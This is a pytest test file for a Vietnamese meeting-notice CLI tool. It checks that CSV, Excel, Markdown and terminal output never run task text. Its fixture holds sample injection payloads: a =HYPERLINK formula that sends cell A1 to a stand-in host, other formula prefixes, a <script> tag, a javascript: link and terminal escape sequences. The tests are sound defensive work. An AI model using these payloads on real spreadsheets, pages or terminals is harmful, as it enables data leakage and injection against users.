"""Safe output everywhere (issue 14): what a task's text says is shown, never run.

A spreadsheet must not read a cell as a formula, a browser must not run a
``<script>`` from a Markdown report, and a terminal must not obey an escape
sequence or a rich markup tag written in a notice.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from typer.testing import CliRunner

from giaoban.cli.main import app

HOSTILE = """\
id: 2024-03-01-giao-ban
kind: thông báo kết luận
title: Kết luận giao ban
date: 2024-03-01
tasks:
  - {item: "1", owners: [VP], deadline: trước ngày 10/03/2024,
     text: '=HYPERLINK("http://x.example/?q="&A1,"Bấm vào đây")'}
  - {item: "2", owners: [VP], deadline: trước ngày 11/03/2024, text: "-5 ngày còn lại"}
  - {item: "3", owners: [VP], deadline: trước ngày 12/03/2024, text: "@SUM(A1:A9) báo cáo"}
  - {item: "4", owners: [VP], deadline: trước ngày 13/03/2024,
     text: "Báo cáo <script>alert('x')</script> **gấp** [xem](javascript:alert(1))"}
  - {item: "5", owners: [VP], deadline: trước ngày 09/03/2024,
     text: "Xóa màn hình \\e[2J\\e]0;tiêu đề\\a và [red]đỏ[/red] xong"}
"""


@pytest.fixture
def run(runner: CliRunner, data_dir: Path, write_notice: Callable[..., Path]) -> Callable[..., str]:
    write_notice("2024-03-01-giao-ban", HOSTILE)

    def invoke(*args: str) -> str:
        result = runner.invoke(
            app, [*args, "--data", str(data_dir)], env={"GIAOBAN_TODAY": "2024-03-05"}
        )
        assert result.exit_code == 0, result.output
        return result.stdout_bytes.decode("utf-8")  # as written: CRLF kept

    return invoke


def texts(out: str) -> dict[str, str]:
    reader = csv.DictReader(io.StringIO(out.removeprefix("\ufeff")))
    return {row["item"]: row["text"] for row in reader}


def test_a_csv_cell_is_never_a_formula(run: Callable[..., str]) -> None:
    found = texts(run("list", "--format", "csv"))
    assert found["1"] == '\'=HYPERLINK("http://x.example/?q="&A1,"Bấm vào đây")'
    assert found["2"] == "'-5 ngày còn lại"
    assert found["3"] == "'@SUM(A1:A9) báo cáo"
    assert not found["4"].startswith("'")  # only what a spreadsheet would run is touched
    days = [row["days"] for row in csv.DictReader(io.StringIO(run("list", "--format", "csv")))]
    assert days == ["5", "6", "7", "8", "4"]  # numbers stay numbers


def test_the_excel_format_has_a_bom_and_crlf_and_the_same_cells(run: Callable[..., str]) -> None:
    excel = run("list", "--format", "excel")
    assert excel.startswith("\ufeff") and "\r\n" in excel and "\n\n" not in excel
    assert texts(excel) == texts(run("list", "--format", "csv"))
    stats = run("stats", "--month", "2024-03", "--format", "excel")
    assert stats.startswith("\ufeffscope,name,")


def test_markdown_shows_html_and_marks_as_text(run: Callable[..., str]) -> None:
    out = run("list", "--format", "md")
    assert "<script>" not in out
    assert "&lt;script&gt;alert('x')&lt;/script&gt;" in out
    assert "\\*\\*gấp\\*\\*" in out and "\\[xem\\](javascript:alert(1))" in out
    assert "\x1b" not in out and "\\\\x1b\\[2J" in out  # shown as "\x1b[2J"


@pytest.mark.parametrize("command", [["list"], ["due", "--days", "30"], ["week"]])
def test_a_terminal_never_gets_an_escape_sequence_or_markup(
    run: Callable[..., str], command: list[str]
) -> None:
    out = run(*command)
    assert "\x1b" not in out and "\x07" not in out
    assert "\\x1b[2J" in out  # written out where it stood
    assert "[red]đỏ[/red]" in out  # a rich markup tag is text


def test_show_writes_control_characters_out(run: Callable[..., str]) -> None:
    out = run("show", "2024-03-01-giao-ban#5")
    assert "\x1b" not in out and "\\x1b]0;tiêu đề\\x07" in out


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice (soffice) is not installed")
def test_libreoffice_keeps_the_letters_and_runs_no_cell(
    run: Callable[..., str], tmp_path: Path
) -> None:
    """The excel CSV opened in LibreOffice with formulas evaluated, saved as xlsx, read back."""
    source = tmp_path / "list.csv"
    source.write_text(run("list", "--format", "excel"), encoding="utf-8", newline="")
    # comma, double quote, UTF-8, from line 1, ..., token 13: evaluate formulas
    opened = "CSV:44,34,76,1,,0,false,true,false,false,false,false,true"
    soffice = ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo"]
    subprocess.run(
        [*soffice, f"--infilter={opened}", "--convert-to", "xlsx",
         "--outdir", str(tmp_path), str(source)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    subprocess.run(
        [*soffice, "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76",
         "--outdir", str(tmp_path / "back"), str(tmp_path / "list.xlsx")],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    back = texts((tmp_path / "back" / "list.csv").read_text(encoding="utf-8"))
    assert back == texts(run("list", "--format", "csv"))  # every letter, every cell as text
